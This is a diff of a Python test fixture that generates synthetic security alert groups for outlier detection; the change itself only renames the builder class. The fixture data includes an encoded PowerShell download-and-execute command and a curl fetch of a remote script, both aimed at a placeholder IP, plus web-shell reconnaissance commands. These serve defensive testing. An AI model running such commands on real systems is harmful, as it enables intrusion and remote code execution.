@@ -3,7 +3,17 @@
 import base64
 import random
 
-from gathering import BLOCKED, DETECTED, QUARANTINED, Fields, Gathering, Group, guid, letters, person
+from tests.support.alert_groups import (
+    BLOCKED,
+    DETECTED,
+    QUARANTINED,
+    AlertGroupBuilder,
+    Fields,
+    Group,
+    guid,
+    letters,
+    person,
+)
 
 DISK = "\\Device\\HarddiskVolume3"
 ENCODED = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')".encode("utf-16-le"))
@@ -43,7 +53,7 @@ def _remote_help_service() -> Group:
             "user_name": "SYSTEM",
         }
 
-    group = Gathering("A remote help tool that runs as a service", usual).ordinary(2_400)
+    group = AlertGroupBuilder("A remote help tool that runs as a service", usual).ordinary(2_400)
     for number in (1, 2, 3):
         group.outlier(
             "from Temp under powershell",
@@ -86,7 +96,7 @@ def _updater_in_profiles() -> Group:
             "parent": "svchost.exe",
         }
 
-    group = Gathering("An updater in the profile of each user", usual).ordinary(900)
+    group = AlertGroupBuilder("An updater in the profile of each user", usual).ordinary(900)
     for user in ("b.sample", "c.doe7"):
         group.outlier(
             "started by Word, from Downloads",
@@ -119,7 +129,7 @@ def _inventory_script() -> Group:
         }
 
     return (
-        Gathering("A script for the inventory, run by the software deployment", usual)
+        AlertGroupBuilder("A script for the inventory, run by the software deployment", usual)
         .ordinary(480)
         .outlier(
             "an encoded command",
@@ -156,7 +166,7 @@ def _backup_by_service_account() -> Group:
         }
 
     return (
-        Gathering("A backup by its service account", usual)
+        AlertGroupBuilder("A backup by its service account", usual)
         .ordinary(260)
         .outlier("as SYSTEM", user_name="SYSTEM")
         .outlier("by a person, from a command line", user_name="i.muster", parent="cmd.exe")
@@ -184,7 +194,7 @@ def _miner_that_is_blocked() -> Group:
 
     unspaced = "Prevention,processwasblockedfromexecution."
     return (
-        Gathering("A coin miner that is blocked everywhere", usual)
+        AlertGroupBuilder("A coin miner that is blocked everywhere", usual)
         .ordinary(350)
         .outlier("allowed", disposition=DETECTED)
         .outlier("allowed, and under a task", disposition=DETECTED, parent="taskeng.exe")
@@ -211,7 +221,7 @@ def _tool_of_administrators() -> Group:
         }
 
     return (
-        Gathering("A tool of administrators", usual)
+        AlertGroupBuilder("A tool of administrators", usual)
         .ordinary(120)
         .outlier(
             "renamed to seem a part of Windows",
@@ -245,7 +255,7 @@ def _installer_from_the_web() -> Group:
 
     startup = "AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"
     return (
-        Gathering("An unwanted installer from the web", usual)
+        AlertGroupBuilder("An unwanted installer from the web", usual)
         .ordinary(700)
         .outlier("in the autostart folder, under a script", **named("toolbar_setup.exe", startup), parent="wscript.exe")
         .outlier(
@@ -276,7 +286,7 @@ def _curl_under_cron() -> Group:
         }
 
     return (
-        Gathering("A job that fetches its list", usual)
+        AlertGroupBuilder("A job that fetches its list", usual)
         .ordinary(300)
         .outlier("by the web server", user_name="tomcat", parent="java", cmdline="curl -s http://203.0.113.9/x.sh")
         .outlier(
@@ -303,7 +313,7 @@ def _scripts_on_macs() -> Group:
         }
 
     return (
-        Gathering("A script that mounts a share on Macs", usual)
+        AlertGroupBuilder("A script that mounts a share on Macs", usual)
         .ordinary(220)
         .outlier(
             "asks for a password, under Word",
@@ -342,7 +352,7 @@ def _deployment_through_cmd() -> Group:
 
     asks = 'cmd.exe /c "whoami /all & net group "Domain Admins" /domain"'
     return (
-        Gathering("Software that is deployed through cmd.exe", usual)
+        AlertGroupBuilder("Software that is deployed through cmd.exe", usual)
         .ordinary(540)
         .outlier("a web shell", cmdline=asks, parent="w3wp.exe", user_name="IIS APPPOOL\\DefaultAppPool")
         .outlier(
@@ -371,7 +381,7 @@ def _agent_in_two_versions() -> Group:
     def usual(rng: random.Random, number: int) -> Fields:
         return {**at("7.24.19504"), "user_name": "SYSTEM"}
 
-    group = Gathering("An agent while its new version rolls out", usual).ordinary(1_100)
+    group = AlertGroupBuilder("An agent while its new version rolls out", usual).ordinary(1_100)
     group.ordinary(60, **at("7.25.19607"))
     return (
         group.outlier(
@@ -399,7 +409,7 @@ def _servers_and_workstations() -> Group:
 
     bin_path = "$Recycle.Bin\\S-1-5-21-1004336348-1177238915-682003330-512\\collector.exe"
     return (
-        Gathering("A collector, on servers as a service and on workstations for each user", usual)
+        AlertGroupBuilder("A collector, on servers as a service and on workstations for each user", usual)
         .ordinary(640)
         .outlier("from the recycle bin", path=f"{DISK}\\{bin_path}", cmdline=f"C:\\{bin_path}", parent="cmd.exe")
         .outlier(
@@ -416,7 +426,7 @@ def _documents_old_and_new() -> Group:
         path = "Program Files\\Initech\\Print\\spool_watch.exe"
         return {"path": f"{DISK}\\{path}", "cmdline": f"C:\\{path} /watch", "user_name": "LOCAL SERVICE"}
 
-    group = Gathering("Documents of two years, the old ones with fewer fields", usual).ordinary(300)
+    group = AlertGroupBuilder("Documents of two years, the old ones with fewer fields", usual).ordinary(300)
     group.ordinary(
         12, parent_details=..., user_name=..., pattern_disposition=..., pattern_disposition_description=..., tactic=...
     )
@@ -443,7 +453,7 @@ def _printer_driver_in_a_small_group() -> Group:
 
     temp = "Windows\\Temp\\pdfprint.exe"
     return (
-        Gathering("Sixty alerts of a printer driver", usual)
+        AlertGroupBuilder("Sixty alerts of a printer driver", usual)
         .ordinary(58)
         .outlier(
             "from Temp, allowed to run by rundll32",
@@ -489,7 +499,7 @@ def _rundll32_for_everything() -> Group:
         }
 
     return (
-        Gathering("A program of Windows that is used for everything", usual)
+        AlertGroupBuilder("A program of Windows that is used for everything", usual)
         .ordinary(420)
         .near_miss("a parent seen once among many", parent="mspaint.exe")
         .near_miss("a tactic seen once among many", tactic="Discovery")
@@ -511,7 +521,7 @@ def _scan_finds_many_files() -> Group:
         }
 
     return (
-        Gathering("A scan that finds many files of as many names", usual, hashed=False)
+        AlertGroupBuilder("A scan that finds many files of as many names", usual, hashed=False)
         .ordinary(250)
         .near_miss("a file in Temp, as one of many folders", path="C:\\Windows\\Temp\\a.exe")
         .near_miss("a file of one letter", path="F:\\x")
@@ -535,7 +545,7 @@ def _logins_without_hash() -> Group:
         }
 
     return (
-        Gathering("Logins, which have neither files nor processes", usual, hashed=False)
+        AlertGroupBuilder("Logins, which have neither files nor processes", usual, hashed=False)
         .ordinary(310)
         .near_miss("a service account logs in as others do", user_name="svc_scan")
         .near_miss("without a user", user_name=...)
@@ -550,7 +560,7 @@ def _six_alerts() -> Group:
         return {"path": f"{DISK}\\{path}", "cmdline": f"C:\\{path}", "user_name": "SYSTEM"}
 
     return (
-        Gathering("Six alerts: too few to say what is usual", usual)
+        AlertGroupBuilder("Six alerts: too few to say what is usual", usual)
         .ordinary(5)
         .near_miss("the one that differs", user_name="j.sample", parent="cmd.exe")
         .group()
@@ -562,4 +572,4 @@ def _three_that_differ() -> Group:
         path = f"{letters(rng, 6)}\\{letters(rng, 6)}.exe"
         return {"path": f"{DISK}\\{path}", "cmdline": f"C:\\{path}", "user_name": person(rng)}
 
-    return Gathering("Three alerts that have little in common", usual).ordinary(3).group()
+    return AlertGroupBuilder("Three alerts that have little in common", usual).ordinary(3).group()
